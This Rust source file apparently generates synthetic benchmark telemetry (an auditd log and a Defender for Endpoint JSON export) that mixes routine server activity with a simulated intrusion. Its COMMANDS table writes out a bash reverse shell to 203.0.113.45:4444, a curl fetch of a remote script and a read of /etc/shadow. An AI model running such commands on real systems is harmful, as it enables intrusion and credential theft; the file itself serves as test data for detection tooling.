//! Deterministic, realistic telemetry for `dossier-bench events`: an `audit.log` of a busy
//! web server (multi-record SYSCALL events: execve with EXECVE, CWD, two PATH and PROCTITLE
//! records; openat with CWD, PATH and PROCTITLE; connect with SOCKADDR and PROCTITLE; each
//! ended by EOE; and single-record user-space events: the USER_AUTH, USER_ACCT, CRED_ACQ,
//! USER_LOGIN, USER_START, USER_END, CRED_DISP records of SSH sessions and USER_CMD of sudo),
//! and a Defender for Endpoint export as the API gives it, one row object per line, with the
//! documented columns of DeviceProcessEvents, DeviceNetworkEvents and DeviceEvents
//! (`ScriptContent` rows with the script in `AdditionalFields`). Same size, same bytes, every
//! run.

use serde_json::{Map, Value, json};
use std::io::{BufWriter, Write};
use std::path::Path;

/// A small PRNG (xorshift64): the files are the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
}

/// Commands of the background and of an intrusion: (exe, argv).
const COMMANDS: &[(&str, &[&str])] = &[
    (
        "/usr/lib/sysstat/sa1",
        &["/bin/sh", "/usr/lib/sysstat/sa1", "1", "1"],
    ),
    (
        "/usr/lib/sysstat/sadc",
        &[
            "/usr/lib/sysstat/sadc",
            "-F",
            "-L",
            "-S",
            "DISK",
            "1",
            "1",
            "/var/log/sysstat",
        ],
    ),
    (
        "/usr/sbin/logrotate",
        &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
    ),
    ("/usr/bin/apt-get", &["apt-get", "-qq", "update"]),
    (
        "/usr/bin/systemctl",
        &["systemctl", "restart", "nginx.service"],
    ),
    (
        "/usr/bin/php",
        &["php", "/var/www/html/artisan", "schedule:run"],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-fsSL", "http://203.0.113.45/x.sh"],
    ),
    (
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"],
    ),
    ("/usr/bin/cat", &["cat", "/etc/shadow"]),
    (
        "/usr/bin/python3",
        &[
            "python3",
            "/usr/share/unattended-upgrades/unattended-upgrade-shutdown",
            "--wait-for-signal",
        ],
    ),
    (
        "/usr/bin/find",
        &["find", "/var/www", "-name", "*.php", "-mtime", "-1"],
    ),
];

const USERS: &[(&str, u32)] = &[
    ("root", 0),
    ("www-data", 33),
    ("alice", 1001),
    ("deploy", 1002),
];

const PEERS: &[&str] = &[
    "198.51.100.7",
    "198.51.100.23",
    "203.0.113.45",
    "192.0.2.10",
];

/// Auditd's form of an untrusted string: quoted, or hex when it holds a space or a quote.
fn audit_str(s: &str) -> String {
    if s.bytes()
        .any(|b| b == b' ' || b == b'"' || !(0x21..=0x7e).contains(&b))
    {
        s.bytes().map(|b| format!("{b:02X}")).collect()
    } else {
        format!("\"{s}\"")
    }
}

fn hex_upper(b: &[u8]) -> String {
    b.iter().map(|b| format!("{b:02X}")).collect()
}

/// What every record of one audit event starts with, and who the process is.
struct Head {
    /// `node=web1 type={} msg=audit(T:SERIAL): ` (`{}` is the record type).
    head: String,
    user: &'static str,
    uid: u32,
    pid: u64,
    /// The SYSCALL record's `ppid=... ses=...` fields.
    ids: String,
}

impl Head {
    fn rec(&self, rtype: &str) -> String {
        self.head.replace("{}", rtype)
    }
}

/// An execve: SYSCALL, EXECVE, CWD, two PATH, PROCTITLE, EOE.
fn exec_event(rng: &mut Rng, h: &Head, line: &mut String) {
    let (exe, argv) = *rng.pick(COMMANDS);
    let comm = exe.rsplit('/').next().unwrap_or(exe);
    let ids = &h.ids;
    line.push_str(&h.rec("SYSCALL"));
    line.push_str(&format!(
        "arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a2b3c0 a1=55d0c1a2b420 a2=55d0c1a2b440 a3=7ffd3c1e2a10 items=2 {ids} comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"exec\"\n"
    ));
    line.push_str(&h.rec("EXECVE"));
    line.push_str(&format!("argc={}", argv.len()));
    for (i, a) in argv.iter().enumerate() {
        line.push_str(&format!(" a{i}={}", audit_str(a)));
    }
    line.push('\n');
    line.push_str(&h.rec("CWD"));
    line.push_str(&format!("cwd=\"/home/{}\"\n", h.user));
    for (i, name) in [exe, "/lib64/ld-linux-x86-64.so.2"].iter().enumerate() {
        line.push_str(&h.rec("PATH"));
        line.push_str(&format!(
            "item={i} name=\"{name}\" inode={} dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n",
            1_300_000 + rng.below(100_000)
        ));
    }
    line.push_str(&h.rec("PROCTITLE"));
    line.push_str(&format!(
        "proctitle={}\n",
        hex_upper(argv.join("\0").as_bytes())
    ));
    line.push_str(&h.rec("EOE"));
    line.push('\n');
}

/// An openat of a watched file: SYSCALL, CWD, PATH, PROCTITLE, EOE.
fn open_event(rng: &mut Rng, h: &Head, line: &mut String) {
    let file = *rng.pick(&[
        "/etc/shadow",
        "/var/www/html/index.php",
        "/etc/cron.d/syncd",
        "/var/log/nginx/access.log",
    ]);
    let ids = &h.ids;
    line.push_str(&h.rec("SYSCALL"));
    line.push_str(&format!(
        "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffc5e0a1f21 a2=0 a3=0 items=1 {ids} comm=\"php-fpm8.2\" exe=\"/usr/sbin/php-fpm8.2\" subj=unconfined key=\"watched\"\n"
    ));
    line.push_str(&h.rec("CWD"));
    line.push_str("cwd=\"/var/www/html\"\n");
    line.push_str(&h.rec("PATH"));
    line.push_str(&format!(
        "item=0 name=\"{file}\" inode={} dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n",
        390_000 + rng.below(10_000)
    ));
    line.push_str(&h.rec("PROCTITLE"));
    line.push_str("proctitle=7068702D66706D3A20706F6F6C207777772D64617461\n");
    line.push_str(&h.rec("EOE"));
    line.push('\n');
}

/// A connect: SYSCALL, SOCKADDR, PROCTITLE, EOE.
fn connect_event(rng: &mut Rng, h: &Head, line: &mut String) {
    let peer = *rng.pick(PEERS);
    let ip: Vec<u8> = peer.split('.').map(|o| o.parse().expect("octet")).collect();
    let port: u16 = *rng.pick(&[443u16, 80, 4444, 5432]);
    let ids = &h.ids;
    line.push_str(&h.rec("SYSCALL"));
    line.push_str(&format!(
        "arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd9a1b2c30 a2=10 a3=0 items=0 {ids} comm=\"curl\" exe=\"/usr/bin/curl\" subj=unconfined key=\"net\"\n"
    ));
    line.push_str(&h.rec("SOCKADDR"));
    line.push_str(&format!(
        "saddr=0200{:04X}{}0000000000000000\n",
        port,
        hex_upper(&ip)
    ));
    line.push_str(&h.rec("PROCTITLE"));
    line.push_str("proctitle=6375726C002D73\n");
    line.push_str(&h.rec("EOE"));
    line.push('\n');
}

/// A user-space record, an event of its own: an SSH session's PAM steps, or sudo's USER_CMD.
fn user_record(rng: &mut Rng, h: &Head, line: &mut String) {
    let peer = *rng.pick(PEERS);
    let (rtype, op) = *rng.pick(&[
        ("USER_AUTH", "PAM:authentication"),
        ("USER_ACCT", "PAM:accounting"),
        ("CRED_ACQ", "PAM:setcred"),
        ("USER_LOGIN", "login"),
        ("USER_START", "PAM:session_open"),
        ("USER_END", "PAM:session_close"),
        ("CRED_DISP", "PAM:setcred"),
        ("USER_CMD", ""),
    ]);
    let res = if rng.below(5) == 0 {
        "failed"
    } else {
        "success"
    };
    let (user, uid, pid) = (h.user, h.uid, h.pid);
    line.push_str(&h.rec(rtype));
    if rtype == "USER_CMD" {
        line.push_str(&format!(
            "pid={pid} uid={uid} auid={uid} ses=7 subj=unconfined msg='cwd=\"/home/{user}\" cmd={} exe=\"/usr/bin/sudo\" terminal=pts/1 res={res}'\n",
            hex_upper(b"systemctl restart nginx")
        ));
    } else {
        line.push_str(&format!(
            "pid={pid} uid=0 auid={uid} ses=7 subj=unconfined msg='op={op} grantors=pam_unix acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={peer} addr={peer} terminal=ssh res={res}'\n"
        ));
    }
}

/// Writes an audit log of at least `bytes` bytes to `path`; the number of events in it.
pub fn audit_log(path: &Path, bytes: u64) -> u64 {
    let mut w = BufWriter::with_capacity(1 << 20, std::fs::File::create(path).expect("create"));
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    let mut written = 0u64;
    let mut events = 0u64;
    let mut serial = 100_000u64;
    // 2026-11-20T00:00:00Z, then a few milliseconds apart.
    let mut ms: u64 = 1_763_596_800_000;
    let mut line = String::with_capacity(4096);
    while written < bytes {
        line.clear();
        serial += 1;
        ms += 1 + rng.below(40);
        let (user, uid) = *rng.pick(USERS);
        let pid = 1000 + rng.below(60_000);
        let ppid = 1 + rng.below(pid);
        let h = Head {
            head: format!(
                "node=web1 type={{}} msg=audit({}.{:03}:{serial}): ",
                ms / 1000,
                ms % 1000
            ),
            user,
            uid,
            pid,
            ids: format!(
                "ppid={ppid} pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295"
            ),
        };
        match rng.below(100) {
            0..55 => exec_event(&mut rng, &h, &mut line),
            55..70 => open_event(&mut rng, &h, &mut line),
            70..80 => connect_event(&mut rng, &h, &mut line),
            _ => user_record(&mut rng, &h, &mut line),
        }
        w.write_all(line.as_bytes()).expect("write");
        written += line.len() as u64;
        events += 1;
    }
    w.flush().expect("flush");
    events
}

/// The columns every Defender row has, in the API's order (values filled per table).
const DEVICE: &str = "db1.corp.example.com";
const DEVICE_ID: &str = "c5a964a5ef1f7e8c8a1f63d17e0b30b1c5dd1b7e";

fn sha256_of(rng: &mut Rng) -> String {
    (0..4).map(|_| format!("{:016x}", rng.next())).collect()
}

/// One DeviceProcessEvents row.
fn process_row(rng: &mut Rng, time: &str, report: u64) -> Map<String, Value> {
    let (exe, argv) = *rng.pick(COMMANDS);
    let (user, _) = *rng.pick(USERS);
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let v = json!({
        "Timestamp": time, "DeviceId": DEVICE_ID, "DeviceName": DEVICE,
        "ActionType": "ProcessCreated", "FileName": name, "FolderPath": exe,
        "SHA1": format!("{:016x}{:016x}{:08x}", rng.next(), rng.next(), rng.below(1 << 32)),
        "SHA256": sha256_of(rng), "MD5": format!("{:016x}{:016x}", rng.next(), rng.next()),
        "FileSize": 10_000 + rng.below(2_000_000), "ProcessVersionInfoCompanyName": "",
        "ProcessVersionInfoProductName": "", "ProcessVersionInfoProductVersion": "",
        "ProcessVersionInfoInternalFileName": "", "ProcessVersionInfoOriginalFileName": "",
        "ProcessVersionInfoFileDescription": "", "ProcessId": 1000 + rng.below(60_000),
        "ProcessCommandLine": argv.join(" "), "ProcessIntegrityLevel": "",
        "ProcessTokenElevation": "", "ProcessCreationTime": time, "AccountDomain": "db1",
        "AccountName": user, "AccountSid": "", "AccountUpn": "", "AccountObjectId": "",
        "LogonId": 0, "InitiatingProcessAccountDomain": "db1",
        "InitiatingProcessAccountName": user, "InitiatingProcessAccountSid": "",
        "InitiatingProcessSHA1": format!("{:016x}{:016x}{:08x}", rng.next(), rng.next(), rng.below(1 << 32)),
        "InitiatingProcessSHA256": sha256_of(rng),
        "InitiatingProcessMD5": format!("{:016x}{:016x}", rng.next(), rng.next()),
        "InitiatingProcessFileName": "bash", "InitiatingProcessFileSize": 1_396_520,
        "InitiatingProcessId": 1000 + rng.below(60_000),
        "InitiatingProcessCommandLine": "bash -c /usr/lib/sysstat/sa1 1 1",
        "InitiatingProcessCreationTime": time, "InitiatingProcessFolderPath": "/usr/bin/bash",
        "InitiatingProcessParentId": 1 + rng.below(1000),
        "InitiatingProcessParentFileName": "cron", "InitiatingProcessParentCreationTime": time,
        "InitiatingProcessIntegrityLevel": "", "InitiatingProcessTokenElevation": "",
        "ReportId": report, "AppGuardContainerId": "", "AdditionalFields": null,
    });
    into_map(v)
}

/// One DeviceNetworkEvents row.
fn network_row(rng: &mut Rng, time: &str, report: u64) -> Map<String, Value> {
    let peer = *rng.pick(PEERS);
    let action = *rng.pick(&[
        "ConnectionSuccess",
        "ConnectionAttempt",
        "InboundConnectionAccepted",
    ]);
    let v = json!({
        "Timestamp": time, "DeviceId": DEVICE_ID, "DeviceName": DEVICE, "ActionType": action,
        "RemoteIP": peer, "RemotePort": *rng.pick(&[443u16, 80, 4444, 22]),
        "RemoteUrl": "", "LocalIP": "10.0.4.21", "LocalPort": 30_000 + rng.below(30_000),
        "Protocol": "Tcp", "LocalIPType": "Private", "RemoteIPType": "Public",
        "InitiatingProcessSHA1": format!("{:016x}{:016x}{:08x}", rng.next(), rng.next(), rng.below(1 << 32)),
        "InitiatingProcessSHA256": sha256_of(rng),
        "InitiatingProcessMD5": format!("{:016x}{:016x}", rng.next(), rng.next()),
        "InitiatingProcessFileName": "syncd", "InitiatingProcessFileSize": 88_112,
        "InitiatingProcessVersionInfoCompanyName": "", "InitiatingProcessId": 1000 + rng.below(60_000),
        "InitiatingProcessCommandLine": "/tmp/.x/syncd", "InitiatingProcessCreationTime": time,
        "InitiatingProcessFolderPath": "/tmp/.x/syncd", "InitiatingProcessParentFileName": "bash",
        "InitiatingProcessParentId": 1 + rng.below(1000),
        "InitiatingProcessParentCreationTime": time, "InitiatingProcessAccountDomain": "db1",
        "InitiatingProcessAccountName": "deploy", "InitiatingProcessAccountSid": "",
        "InitiatingProcessAccountUpn": "", "InitiatingProcessAccountObjectId": "",
        "InitiatingProcessIntegrityLevel": "", "InitiatingProcessTokenElevation": "",
        "ReportId": report, "AppGuardContainerId": "", "AdditionalFields": null,
    });
    into_map(v)
}

/// One DeviceEvents row: a `ScriptContent` of the routine kinds (sysstat, the EDR's scans).
fn script_row(rng: &mut Rng, time: &str, report: u64) -> Map<String, Value> {
    let (name, script) = *rng.pick(&[
        (
            "sa1",
            "#!/bin/sh\n# /usr/lib/sysstat/sa1\n# (C) 1999-2020 Sebastien Godard (sysstat <at> orange.fr)\numask 0022\nENDIR=/usr/lib/sysstat\ncd ${ENDIR}\n[ -r /etc/default/sysstat ] && . /etc/default/sysstat\n[ \"$ENABLED\" = \"true\" ] || exit 0\nexec ${ENDIR}/sadc -F -L ${SADC_OPTIONS} $* -\n",
        ),
        (
            "open_files.py",
            "import os\nimport sys\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n            for fd in os.listdir(f'/proc/{pid}/fd'):\n                print(pid, os.readlink(f'/proc/{pid}/fd/{fd}'))\n        except OSError:\n            pass\n",
        ),
        (
            "get_jar_data_list.py",
            "import zipfile, sys, json\nout = []\nfor path in sys.argv[1:]:\n    with zipfile.ZipFile(path) as z:\n        out.append({'path': path, 'entries': len(z.namelist())})\nprint(json.dumps(out))\n",
        ),
    ]);
    let extra = json!({ "ScriptContent": script, "ScriptName": name }).to_string();
    let v = json!({
        "Timestamp": time, "DeviceId": DEVICE_ID, "DeviceName": DEVICE,
        "ActionType": "ScriptContent", "FileName": name, "FolderPath": "",
        "SHA1": "", "SHA256": sha256_of(rng), "MD5": "", "FileSize": null,
        "AccountDomain": "", "AccountName": "", "AccountSid": "", "RemoteUrl": "",
        "RemoteDeviceName": "", "ProcessId": null, "ProcessCommandLine": "",
        "ProcessCreationTime": null, "ProcessTokenElevation": "", "LogonId": null,
        "RegistryKey": "", "RegistryValueName": "", "RegistryValueData": "",
        "RemoteIP": "", "RemotePort": null, "LocalIP": "", "LocalPort": null,
        "FileOriginUrl": "", "FileOriginIP": "",
        "InitiatingProcessSHA1": "", "InitiatingProcessSHA256": sha256_of(rng),
        "InitiatingProcessMD5": "", "InitiatingProcessFileName": "python3.10",
        "InitiatingProcessFileSize": 5_904_904, "InitiatingProcessId": 1000 + rng.below(60_000),
        "InitiatingProcessCommandLine": "python3 /opt/microsoft/mdatp/resources/scripts/open_files.py",
        "InitiatingProcessCreationTime": time,
        "InitiatingProcessFolderPath": "/usr/bin/python3.10",
        "InitiatingProcessParentId": 1 + rng.below(1000),
        "InitiatingProcessParentFileName": "wdavdaemon",
        "InitiatingProcessParentCreationTime": time,
        "InitiatingProcessAccountDomain": "db1", "InitiatingProcessAccountName": "root",
        "InitiatingProcessAccountSid": "", "ReportId": report, "AppGuardContainerId": "",
        "AdditionalFields": extra,
    });
    into_map(v)
}

/// `YYYY-MM-DDTHH:MM:SS.mmm` of milliseconds since the epoch (UTC; civil from days, proleptic
/// Gregorian).
fn utc_millis(ms: u64) -> String {
    let secs = ms / 1000;
    let days = (secs / 86_400) as i64;
    let sod = secs % 86_400;
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:03}",
        sod / 3600,
        sod / 60 % 60,
        sod % 60,
        ms % 1000
    )
}

fn into_map(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => unreachable!("a row is an object"),
    }
}

/// Writes a Defender export (JSON, one row per line) of at least `bytes` bytes to `path`; the
/// number of rows.
pub fn defender_json(path: &Path, bytes: u64) -> u64 {
    let mut w = BufWriter::with_capacity(1 << 20, std::fs::File::create(path).expect("create"));
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut written = 0u64;
    let mut rows = 0u64;
    let mut ms: u64 = 1_763_596_800_000;
    let mut buf = Vec::with_capacity(8192);
    while written < bytes {
        ms += 1 + rng.below(40);
        let time = format!("{}{:04}Z", utc_millis(ms), rng.below(10_000));
        let report = 10_000 + rows;
        let row = match rng.below(10) {
            0..=4 => process_row(&mut rng, &time, report),
            5..=7 => network_row(&mut rng, &time, report),
            _ => script_row(&mut rng, &time, report),
        };
        buf.clear();
        serde_json::to_writer(&mut buf, &row).expect("json");
        buf.push(b'\n');
        w.write_all(&buf).expect("write");
        written += buf.len() as u64;
        rows += 1;
    }
    w.flush().expect("flush");
    rows
}
